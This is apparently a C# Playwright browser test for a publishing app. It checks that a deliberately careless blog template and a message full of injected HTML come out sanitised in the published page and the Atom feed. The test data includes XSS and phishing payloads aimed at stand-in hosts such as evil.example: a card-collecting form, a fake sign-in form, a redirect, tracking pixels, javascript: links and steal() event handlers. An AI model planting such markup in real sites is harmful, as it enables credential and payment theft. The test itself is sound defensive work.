using System.Net;
using System.Xml.Linq;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using Publisher.Core.Composition;
using Publisher.Core.Data;
using Publisher.Core.Domain;

namespace Publisher.Web.Tests.Browser;

/// <summary>
/// A brand manager's careless Blog template (fields printed without escaping, markup hidden from the validation
/// trial) and a marketer's message full of markup: the published post, as Chromium builds it, holds no form,
/// script, frame, foreign image, event handler or script link, and the browser asks no foreign host for anything.
/// </summary>
[Collection(BrowserCollection.Name)]
public class CarelessTemplateBrowserTests(DemoSite site) : IClassFixture<DemoSite>
{
    private const string Injected =
        "<form action=\"https://evil.example/collect\"><input name=\"card\"><button>Pay</button></form>" +
        "<img src=\"https://tracker.example/pixel.gif\"><iframe src=\"https://evil.example/frame\"></iframe>" +
        "<a href=\"javascript:alert(document.domain)\">win a prize</a><b onmouseover=\"steal()\">bold</b><script>alert(1)</script>";

    private const string CarelessTemplate = """
        {{- capture article -}}
        <article>
        <h1>{{ message.title | html.escape }}</h1>
        <p class="standfirst">{{ message.summary }}</p>
        <p>By {{ message.author }}</p>
        {{ message.body_html }}
        <ul>{{ for fact in message.key_facts }}<li>{{ fact }}</li>{{ end }}</ul>
        <p class="cta"><a href="{{ link }}">{{ message.call_to_action }}</a></p>
        <img src="/media/0f1e2d/logo.png" alt="our logo">
        {{- if message.id != "sample" }}
        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <form action="https://evil.example/login"><input type="password" name="pw"><button>Sign in again</button></form>
        <img src="https://tracker.example/hidden.gif" onerror="steal()"><p style="background:url(https://tracker.example/bg.gif)">styled</p>
        {{- end }}
        </article>
        {{- end -}}
        {{- capture feed_entry -}}
        <entry xmlns="http://www.w3.org/2005/Atom"><title>{{ xml_escape message.title }}</title><updated>{{ message.updated_at }}</updated>
        <summary type="html">{{ xml_escape message.summary }}</summary><content type="html">{{ xml_escape article }}</content></entry>
        {{- end -}}
        {{ article }}
        """;

    /// <summary>What the injected markup would have put in the page, as CSS selectors.</summary>
    private static readonly string[] InjectedElements =
        ["form", "input", "button", "script", "iframe", "object", "embed", "base", "meta[http-equiv]", "img[src*='tracker.example']", "a[href^='javascript']", "[style*='url(']"];

    [Fact]
    public async Task A_published_post_from_a_careless_template_has_nothing_injected_in_chromiums_page()
    {
        var slug = "careless-" + Guid.NewGuid().ToString("N")[..8];
        var title = "Careless post " + slug;
        await using (var scope = site.App.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<PublisherDbContext>();
            var number = await db.ChannelTemplateVersions.Where(t => t.Kind == "Blog").MaxAsync(t => (int?)t.Number) ?? 0;
            db.ChannelTemplateVersions.Add(new ChannelTemplateVersion { Kind = "Blog", Number = number + 1, Source = CarelessTemplate, CreatedByName = "Careless manager", CreatedAt = DateTimeOffset.UtcNow });
            await db.SaveChangesAsync();

            // Rendered and stored exactly as the editor does when the marketer saves.
            var composer = scope.ServiceProvider.GetRequiredService<VariantComposer>();
            var author = await scope.ServiceProvider.GetRequiredService<UserManager<AppUser>>().Users.FirstAsync();
            var account = await db.ChannelAccounts.FirstAsync(a => a.Kind == "Blog");
            var message = new Message
            {
                Title = title, BodyMarkdown = "Notes of fig and cocoa. " + Injected + "\n\n[win](javascript:alert(1)) ![pixel](https://tracker.example/md.gif)",
                Summary = Injected, CallToAction = Injected, KeyFacts = [Injected], Link = "https://northwind.example/autumn",
                AuthorId = author.Id, TimeZone = "Europe/Paris", CreatedAt = DateTimeOffset.UtcNow, UpdatedAt = DateTimeOffset.UtcNow,
            };
            var variant = new Variant { MessageId = message.Id, ChannelAccountId = account.Id };
            var context = await composer.LoadContextAsync();
            composer.Apply(context, variant, message, account, composer.Render(context, variant.Id, message, account, null, Injected), []);
            Assert.Contains("html.removed", variant.RenderDiagnosticsJson);
            (variant.State, variant.ExternalId, variant.PublishedAt) = (VariantState.Published, slug, DateTimeOffset.UtcNow);
            message.Variants.Add(variant);
            db.Messages.Add(message);
            await db.SaveChangesAsync();
        }

        using (var http = new HttpClient { BaseAddress = new Uri(site.BaseUrl) })
        {
            var served = await http.GetAsync($"/blog/{slug}");
            Assert.Equal(HttpStatusCode.OK, served.StatusCode);
            var policy = served.Headers.GetValues("Content-Security-Policy").Single();
            Assert.Contains("form-action 'none'", policy);
            Assert.Contains("base-uri 'none'", policy);
            Assert.Contains("img-src 'self';", policy); // the demo guide lists no image host
            var feed = XDocument.Parse(await http.GetStringAsync("/blog/feed.atom"));
            var entry = feed.Root!.Elements().Single(e => e.Name.LocalName == "entry" && e.Elements().Any(t => t.Name.LocalName == "title" && t.Value == title));
            var entryHtml = string.Concat(entry.Elements().Where(e => (string?)e.Attribute("type") == "html").Select(e => e.Value));
            Assert.Contains("Notes of fig and cocoa", entryHtml);
            // The entry's HTML as a feed reader builds it: the Markdown's raw HTML stays as visible text (escaped),
            // and nothing of the injected markup is an element or an attribute.
            var entryDom = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(entryHtml);
            foreach (var injected in InjectedElements)
                Assert.Empty(entryDom.QuerySelectorAll(injected));
            Assert.DoesNotContain(entryDom.QuerySelectorAll("*"), e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        }

        var (playwright, browser) = await Chromium.LaunchAsync();
        using var _ = playwright;
        await using var __ = browser;
        var page = await Chromium.NewPageAsync(browser, new BrowserNewPageOptions());
        var asked = new List<string>();
        page.Request += (_, request) => { lock (asked) asked.Add(request.Url); };

        await page.GotoAsync($"{site.BaseUrl}/blog/{slug}");

        await Assertions.Expect(page.Locator("article h1")).ToHaveTextAsync(title);
        await Assertions.Expect(page.Locator("article b").First).ToHaveTextAsync("bold"); // the harmless markup stays
        await Assertions.Expect(page.Locator("article img[alt='our logo']")).ToHaveCountAsync(1); // the brand's own media stays
        // No script at all, not even the app's own (its views are counted as the app serves the page), and nothing
        // else is an injected element.
        foreach (var injected in InjectedElements)
            Assert.Equal(0, await page.Locator(injected).CountAsync());
        Assert.Equal(0, await page.Locator("script").CountAsync());
        var handlers = await page.EvaluateAsync<int>("() => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length");
        Assert.Equal(0, handlers);
        lock (asked)
        {
            Assert.DoesNotContain(asked, url => !url.StartsWith(site.BaseUrl, StringComparison.Ordinal));
            Assert.DoesNotContain(asked, url => url.EndsWith(".js", StringComparison.Ordinal) || url.Contains("/t/collect", StringComparison.Ordinal));
        }
    }
}
